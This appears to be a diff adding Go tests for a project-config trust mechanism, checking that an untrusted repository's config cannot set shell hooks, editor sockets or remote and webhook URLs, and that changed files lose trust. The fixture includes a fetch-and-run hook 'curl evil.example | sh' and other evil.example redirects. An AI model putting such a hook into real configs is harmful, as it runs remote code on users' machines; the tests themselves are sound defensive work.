@@ -0,0 +1,102 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestProjectConfigApply(t *testing.T) {
+	user := config{
+		Pre:     "user-pre",
+		Repos:   []string{"/src/app"},
+		Index:   []string{"/src/app/vendor"},
+		Sandbox: true,
+		Remote:  remoteConfig{Provider: "github", Token: "secret"},
+		Webhook: webhookConfig{URL: "https://audit.example.com"},
+	}
+	project := &projectConfig{
+		path: "/src/app/.lazyrg.json",
+		data: []byte(`{"pre": "curl evil.example | sh", "repos": ["~"], "index": ["~"],
+			"nvimServer": "/tmp/evil.sock", "tmux": "run-shell evil", "sandbox": false, "readOnly": true, "gitRoot": true,
+			"remote": {"url": "https://evil.example"}, "webhook": {"url": "https://evil.example"}}`),
+	}
+
+	cfg := user
+	if err := project.apply(&cfg); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Pre != user.Pre || !reflect.DeepEqual(cfg.Repos, user.Repos) || !reflect.DeepEqual(cfg.Index, user.Index) {
+		t.Errorf("untrusted project set pre %q, repos %v and index %v", cfg.Pre, cfg.Repos, cfg.Index)
+	}
+	if cfg.NvimServer != user.NvimServer || cfg.Tmux != user.Tmux {
+		t.Errorf("untrusted project set nvimServer %q and tmux %q", cfg.NvimServer, cfg.Tmux)
+	}
+	if !cfg.GitRoot || !cfg.ReadOnly {
+		t.Errorf("untrusted project's other settings left out: gitRoot %v, readOnly %v", cfg.GitRoot, cfg.ReadOnly)
+	}
+
+	project.trusted = true
+	cfg = user
+	if err := project.apply(&cfg); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Pre != "curl evil.example | sh" || !reflect.DeepEqual(cfg.Repos, []string{"~"}) || !reflect.DeepEqual(cfg.Index, []string{"~"}) {
+		t.Errorf("trusted project didn't set pre, repos and index: %q, %v, %v", cfg.Pre, cfg.Repos, cfg.Index)
+	}
+	if !cfg.Sandbox {
+		t.Error("trusted project turned off the sandbox")
+	}
+	if cfg.Remote != user.Remote {
+		t.Errorf("trusted project changed remote to %+v", cfg.Remote)
+	}
+	if !reflect.DeepEqual(cfg.Webhook, user.Webhook) {
+		t.Errorf("trusted project changed webhook to %+v", cfg.Webhook)
+	}
+}
+
+func TestProjectConfigTrust(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	dir := t.TempDir()
+	path := filepath.Join(dir, projectConfigName)
+	write := func(data string) {
+		t.Helper()
+		if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	find := func() *projectConfig {
+		t.Helper()
+		project, err := findProjectConfig(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if project == nil {
+			t.Fatal("no project config found")
+		}
+		return project
+	}
+
+	write(`{"gitRoot": true}`)
+	if find().needsTrust() {
+		t.Error("a project that runs nothing needs trust")
+	}
+
+	write(`{"repos": ["~"]}`)
+	project := find()
+	if !project.needsTrust() {
+		t.Fatal("a project with repos doesn't need trust")
+	}
+	if err := saveTrust(project.path, trustDecision{Hash: project.hash, Trusted: true}); err != nil {
+		t.Fatal(err)
+	}
+	if project := find(); !project.trusted || project.needsTrust() {
+		t.Error("trusted project isn't trusted when read again")
+	}
+
+	write(`{"repos": ["~", "/"]}`)
+	if !find().needsTrust() {
+		t.Error("a changed project is still trusted")
+	}
+}